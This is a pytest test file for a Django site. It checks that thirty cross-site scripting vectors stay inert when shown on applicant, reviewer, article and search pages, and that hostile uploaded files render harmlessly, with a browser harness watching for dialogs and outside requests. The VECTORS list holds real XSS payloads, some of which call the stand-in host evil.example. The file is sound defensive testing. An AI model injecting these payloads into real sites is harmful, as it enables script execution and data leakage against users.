"""Case 55 and T26: thirty vectors and the renditions of hostile files, looked at by a real browser."""

from __future__ import annotations

import pytest
from django.http import HttpResponse
from django.test import Client
from django.utils import timezone
from django.utils.html import escape

from accounts.models import Evidence
from articles.models import Comment
from tests import factories
from tests.accounts.hostile_files import CASES
from tests.accounts.test_hostile_uploads import KEPT, post
from tests.people import make_person, staff_login
from tests.security.browser import look

pytestmark = pytest.mark.django_db
VECTORS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=//evil.example>",
    "<img src=//evil.example/x.png>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video src=//evil.example/x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "'-alert(1)-'",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<marquee onstart=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.fixture(autouse=True)
def store(settings, tmp_path):
    settings.EVIDENCE_DIR = tmp_path / "evidence"


def browser_of(person) -> Client:
    browser = Client()
    browser.force_login(person)
    return browser


def pages_with(vectors: list[str], article, doctor, reviewer) -> list[HttpResponse]:
    """Where words of applicants, readers and reviewers are shown: the desk, the article, the applicant's own pages."""
    together, short = "\n".join(vectors), [vector for vector in vectors if len(vector) < 60]
    person, name = make_person(), short[0]
    factories.consent_to(person, article.zone)
    draft = factories.make_draft(person, name=name, hospital=together, department=short[-1])
    for vector in vectors[:5]:
        factories.make_evidence(draft, f"{vector}.jpg"[:160])
    uploading = browser_of(person).get("/zones/alk/gate/evidence/")
    case = factories.drafts.send(draft, at=timezone.now())
    type(doctor).objects.filter(pk=doctor.pk).update(display_name=name, display_title=short[-1])
    Comment.post(article, author=doctor, body=together, at=timezone.now(), quote=vectors[0])
    desk = staff_login(Client(), reviewer)
    desk.post(f"/admin/accounts/verification/{case.pk}/claim/")
    decide = f"/admin/accounts/verification/{case.pk}/decide/"
    pages = [
        uploading,
        desk.get(decide),
        desk.post(decide, {"decision": "reject", "message": together, "version": "9"}),
        desk.get("/admin/accounts/verification/", {"q": name}),
        browser_of(doctor).get("/zones/alk/articles/alk-pretreated-strategy/"),
        browser_of(doctor).get("/zones/alk/search/", {"q": name}),
        Client().get("/accounts/login/", {"next": name}),
    ]
    factories.reject(case, by=reviewer, message=together)
    return [*pages, browser_of(person).get("/zones/alk/gate/rejected/"), browser_of(person).get("/me/")]


def test_thirty_vectors_open_no_dialog_and_ask_no_other_host(article, doctor, reviewer):
    assert len(set(VECTORS)) == 30
    pages = [
        page for start in (0, 10, 20) for page in pages_with(VECTORS[start : start + 10], article, doctor, reviewer)
    ]
    shown = "".join(page.content.decode() for page in pages)
    assert [vector for vector in VECTORS if escape(vector) not in shown] == []  # each stands somewhere, as words

    assert look(pages) == {"dialogs": [], "outside": [], "acting": []}


@pytest.mark.pure
def test_the_browser_would_notice():
    """The look itself: an unguarded page with the same vectors does open dialogs and does ask other hosts."""
    found = look([HttpResponse("<p>".join([VECTORS[1], VECTORS[7]]))])

    assert found["dialogs"]
    assert any("evil.example" in address for address in found["outside"])
    assert found["acting"]


def test_t26_renditions_of_hostile_files_do_nothing_in_a_browser(zone, reviewer):
    """13-18, 46-47, 52 are kept as pixels; 34-41 are refused before they could be looked at."""
    kept = [number for number in ("13", "14", "15", "18", "46", "47", "52") if number in KEPT]
    assert len(kept) == 7
    assert all(CASES[f"{number}"].answer for number in range(34, 42))
    pages = []
    for start in (0, 5):
        person = make_person()
        factories.consent_to(person, zone)
        draft = factories.make_draft(person)
        applicant = browser_of(person)
        for number in kept[start : start + 5]:
            assert post(applicant, number).status_code == 302
        case = factories.drafts.send(draft, at=timezone.now())
        desk = staff_login(Client(), reviewer)
        desk.post(f"/admin/accounts/verification/{case.pk}/claim/")
        pages += [desk.get(f"/admin/accounts/verification/{case.pk}/decide/")]
        pages += [desk.get(f"/evidence/{row.public_id}/") for row in Evidence.objects.filter(owner=person)]

    assert {page.status_code for page in pages} == {200}
    assert look(pages) == {"dialogs": [], "outside": [], "acting": []}
